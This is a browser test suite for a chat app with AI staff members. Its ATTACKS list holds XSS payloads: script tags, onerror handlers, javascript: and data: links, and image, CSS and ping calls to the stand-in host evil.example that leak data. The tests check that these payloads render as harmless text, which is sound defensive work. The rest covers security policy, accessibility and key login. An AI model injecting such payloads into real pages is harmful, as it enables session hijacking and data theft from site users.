import { execFileSync } from "node:child_process"
import { createRequire } from "node:module"
import type { Page } from "playwright-core"
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest"
import { hasServer, serverCommand } from "../../react/tests/realServer.ts"
import { hasBrowser } from "./browser.ts"
import { GRAPH } from "./sample.ts"
import { composer, finished, say, World } from "./world.ts"

const axe = createRequire(import.meta.url).resolve("axe-core/axe.min.js")

const ATTACKS = [
  "<script>window.owned=1</script>",
  "<img src='https://evil.example/x.png' onerror='window.owned=1'>",
  "![](https://evil.example/pixel.gif?leak=1)",
  "[click](javascript:window.owned=1)",
  "[click](data:text/html,<script>window.owned=1</script>)",
  "<iframe src='https://evil.example'></iframe>",
  "<style>*{background:url(https://evil.example/css)}</style>",
  "<a href='https://evil.example' ping='https://evil.example/ping'>x</a>",
  "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
  "```\n</code><script>window.owned=1</script>\n```",
]

describe.skipIf(!hasServer || !hasBrowser)("safe, and for everyone", () => {
  let world: World

  beforeAll(async () => {
    world = await World.begin("--offline-pace-s", "0.002")
  })
  afterAll(() => world?.end())
  afterEach(async () => {
    await world.closeBrowsers()
    world.checkProblems()
  })

  /** A staff member with all the attacks as its past words, as its memories and as its name. */
  async function makeHostile(): Promise<{ staffId: string; conversationId: string }> {
    const staffId = await world.server.makeStaff({ name: ATTACKS[1]?.slice(0, 200), role: ATTACKS[0] })
    const messages = ATTACKS.flatMap((attack, index) => [
      { message_type: "user", content: attack, created_at: `2026-11-01T10:0${index}:00.000Z` },
      { message_type: "assistant", content: attack, created_at: `2026-11-01T10:0${index}:01.000Z` },
    ])
    const body = { title: ATTACKS[0], messages }
    const { id } = await world.call<{ id: string }>("POST", `/staff/${staffId}/conversations`, body)
    await world.call(
      "POST",
      `/staff/${staffId}/memories`,
      ATTACKS.map(text => ({ text })),
    )
    return { staffId, conversationId: id }
  }

  async function expectHarmless(page: Page): Promise<void> {
    expect(await page.evaluate(() => "owned" in window)).toBe(false)
    const strange = "#root :is(script, iframe, object, embed, style, animate, img:not([src='./icon.svg']))"
    expect(await page.locator(strange).count()).toBe(0)
    const links = await page
      .locator(".ss-chat a")
      .evaluateAll(found => found.map(link => (link as HTMLAnchorElement).protocol))
    for (const protocol of links) expect(["https:", "http:", "mailto:"]).toContain(protocol)
  }

  test("attacks in a reply, a name, a title and a memory are shown as text and do nothing", async () => {
    const { staffId, conversationId } = await makeHostile()
    const page = await world.openPage(`#/${staffId}/${conversationId}`)
    await page
      .locator(".ss-message")
      .nth(ATTACKS.length * 2 - 1)
      .waitFor()
    await expectHarmless(page)
    await page.getByRole("button", { name: "Memory" }).click()
    await page
      .locator(".panel .item")
      .nth(ATTACKS.length - 1)
      .waitFor()
    await expectHarmless(page)
    await say(page, "What did I say about evil.example and the script?")
    await expect.poll(() => page.locator(".ss-message").count()).toBe(ATTACKS.length * 2 + 2)
    await expect.poll(() => page.locator("[data-status=streaming]").count()).toBe(0)
    await finished(page).click()
    await page.getByText(/of 6,000 tokens/).waitFor()
    await expectHarmless(page)
  })

  test("strange addresses of the page itself are met with words", async () => {
    await world.server.makeStaff({ name: "Ada" })
    for (const path of ["#/nobody", "#/%E0%A4%A", "#/../../x", "#/<script>"]) {
      const page = await world.openPage(path)
      await page.getByText("There is no such staff member").waitFor()
      await world.closeBrowsers()
    }
  })

  test("the page stays within its security policy, which lets nothing inline run", async () => {
    const staffId = await world.server.makeStaff({ name: "Ada" })
    const page = await world.openPage(`#/${staffId}`)
    await composer(page).waitFor()
    const refused = await page.evaluate(
      () =>
        new Promise<string>(resolve => {
          document.addEventListener("securitypolicyviolation", event => resolve(event.violatedDirective))
          try {
            document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.owned=1'>")
          } catch {
            // Trusted types refuse the very call.
          }
        }),
    )
    expect(refused).toBe("require-trusted-types-for")
    expect(await page.evaluate(() => "owned" in window)).toBe(false)
    world.forgetProblems()
  })

  async function checkWithAxe(page: Page, what: string): Promise<void> {
    await expect.poll(() => page.locator(".spinner").count()).toBe(0)
    // What is still moving or fading in has the colours of neither state.
    await page.evaluate(() => Promise.all(document.getAnimations().map(({ finished: end }) => end)))
    await page.addScriptTag({ path: axe })
    const found = await page.evaluate(async () => {
      // biome-ignore lint/suspicious/noExplicitAny: axe puts itself on the window, without types
      const { violations } = await (window as any).axe.run(document, {
        runOnly: ["wcag2a", "wcag2aa", "wcag21aa", "wcag22aa", "best-practice"],
      })
      return violations.map((v: { id: string; nodes: { html: string }[] }) => [v.id, v.nodes[0]?.html])
    })
    expect(found, what).toEqual([])
  }

  const desk = { width: 1440, height: 860 }
  const phone = { width: 390, height: 800 }
  const screens = [
    { name: "desk, light", options: { colorScheme: "light" as const, viewport: desk } },
    { name: "desk, dark", options: { colorScheme: "dark" as const, viewport: desk } },
    { name: "phone, light", options: { colorScheme: "light" as const, viewport: phone, hasTouch: true } },
    { name: "phone, dark", options: { colorScheme: "dark" as const, viewport: phone, hasTouch: true } },
  ]

  test.each(screens)("axe finds nothing to complain of: $name", async ({ options }) => {
    const staffId = await world.server.makeStaff({ name: "Ada", role: "a personal assistant" })
    await world.call("POST", `/staff/${staffId}/memories`, [
      { text: "Kim lives in Bergen." },
      { text: "Kim plays the cello." },
    ])
    world.host.mock = call => (call.includes("/graph") ? GRAPH : undefined)
    const page = await world.openPage(`#/${staffId}/new`, { ...options, bypassCSP: true })
    const check = (what: string) => checkWithAxe(page, what)
    const press = (name: string | RegExp) => page.getByRole("button", { name }).last().click()
    await composer(page).waitFor()
    await check("an empty conversation")
    await composer(page).fill("Where do I live, and what do I play?")
    await press("Send")
    await finished(page).waitFor()
    await check("a conversation")
    await press("Why this answer")
    await page.getByText(/of 6,000 tokens/).waitFor()
    await page.evaluate(() => {
      for (const section of document.querySelectorAll("details")) section.open = true
    })
    await check("why")
    await press("Close the panel")
    await page.getByRole("button", { name: /^From / }).click()
    await check("what a reply was made from")
    await page.goto(`${world.host.url}#/${staffId}/-/memory`)
    await press("Where it comes from")
    await page.getByText("Added by hand.").waitFor()
    await check("a memory with its origin")
    await press("Edit")
    await check("a memory that is corrected")
    await page.goto(`${world.host.url}#/${staffId}/-/graph`)
    await page.locator(".node").first().waitFor()
    await check("the graph")
    await page.goto(`${world.host.url}#/${staffId}`)
    if (options.viewport === phone) {
      await press("Staff and conversations")
      await check("the drawer")
    }
    const row = page.getByRole("link", { name: /Where do I live/ })
    await row.hover()
    await press(/^Delete Where do I live/)
    await check("deleting a conversation")
    await press("Keep it")
    await page.getByRole("button", { name: "Edit Ada" }).last().click()
    await page.getByText("Model and limits").click()
    await check("the staff editor")
    await press("Let go…")
    await check("letting somebody go")
  })

  test.each([320, 360, 768, 1280])(
    "nothing sticks out sideways at %i pixels, left to right and right to left",
    async width => {
      const { staffId, conversationId } = await makeHostile()
      const page = await world.openPage("", { viewport: { width, height: 740 } })
      for (const direction of ["ltr", "rtl"]) {
        await page.evaluate(dir => document.documentElement.setAttribute("dir", dir), direction)
        for (const path of [
          `#/${staffId}/${conversationId}`,
          `#/${staffId}/-/memory`,
          `#/${staffId}/-/graph`,
        ]) {
          await page.goto(world.host.url + path)
          await expect.poll(() => page.locator(".spinner").count()).toBe(0)
          const wider = await page.evaluate(
            () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
          )
          expect(wider, `${direction} ${path}`).toBe(0)
        }
      }
    },
  )

  test("a server with keys: the page asks for one, says when it is wrong, and forgets it on request", async () => {
    const locked = await World.begin("--auth", "keys")
    const key = execFileSync(serverCommand, ["keys", "create", "Kim", "--db", locked.server.database], {
      encoding: "utf8",
    })
      .trim()
      .split("\n")
      .at(-1)
    const page = await locked.openPage("", { bypassCSP: true })
    await page.getByLabel("Key", { exact: true }).fill("not a key")
    await page.getByRole("button", { name: "Enter" }).click()
    await page.getByText("The server does not accept this key.").waitFor()
    await checkWithAxe(page, "the form for a key")
    await page.getByLabel("Key", { exact: true }).fill(` ${key}\n`)
    await page.getByRole("button", { name: "Enter" }).click()
    await page.getByText("Nobody works here yet").waitFor()
    await page.reload()
    await page.getByText("Nobody works here yet").waitFor()
    expect(await page.evaluate(() => localStorage.getItem("staffstream-key"))).toBeNull()
    await page.getByRole("button", { name: "Sign out" }).click()
    await page.getByLabel("Key", { exact: true }).waitFor()
    await locked.end()
    locked.checkProblems()
  })
})
